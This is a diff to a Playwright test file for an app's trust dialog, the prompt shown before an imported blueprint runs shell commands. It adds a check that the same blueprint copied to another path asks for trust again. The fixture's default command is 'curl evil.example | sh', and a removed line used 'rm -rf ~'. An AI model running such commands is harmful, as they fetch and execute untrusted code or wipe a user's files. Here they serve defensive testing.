@@ -1,4 +1,4 @@
-import { readFileSync, symlinkSync, writeFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import type { NodeDefinitionInput } from '@atomiton/contracts';
 import type { Locator } from 'playwright-core';
@@ -60,6 +60,12 @@ const sent = (command = 'curl evil.example | sh'): object => ({
   calm: { type: 'core/number', typeVersion: 1, parameters: { value: 7 } },
 });
 
+/** A blueprint in a folder of its own, so that the secret lies outside. */
+function freshFile(name: string): string {
+  mkdirSync(join(folder, name));
+  return join(folder, name, 'sent.blueprint.json');
+}
+
 function write(nodes: object): void {
   const edges = 'danger' in nodes ? { 'danger.value': { from: 'calm.number' } } : {};
   writeFileSync(file, JSON.stringify({ formatVersion: 1, id: `t${count}`, name: 'sent', nodes, edges }));
@@ -90,8 +96,7 @@ const asked = (): Promise<string[]> =>
 
 beforeEach(() => {
   count += 1;
-  // A folder of its own below, so that the secret lies outside.
-  file = join(temporaryFolder(`trust-${count}`), 'sent.blueprint.json');
+  file = freshFile(String(count));
 });
 
 describe('a blueprint from elsewhere', () => {
@@ -144,12 +149,14 @@ describe('a blueprint from elsewhere', () => {
     await ran('danger');
     expect(await dialog().count()).toBe(0);
     await close();
-    // Somebody else changes the command.
-    write(sent('rm -rf ~'));
+    // The same text at another path is another blueprint.
+    const text = readFileSync(file, 'utf8');
+    file = freshFile('copy');
+    writeFileSync(file, text);
     await open();
     await editor.run();
-    await dialog().getByText('rm -rf ~', { exact: true }).waitFor();
-    expect(await asked()).toEqual(['danger']);
+    await dialog().waitFor();
+    expect(await asked()).toEqual(['danger', 'reader']);
     await editor.page.keyboard.press('Escape');
     await close();
   });
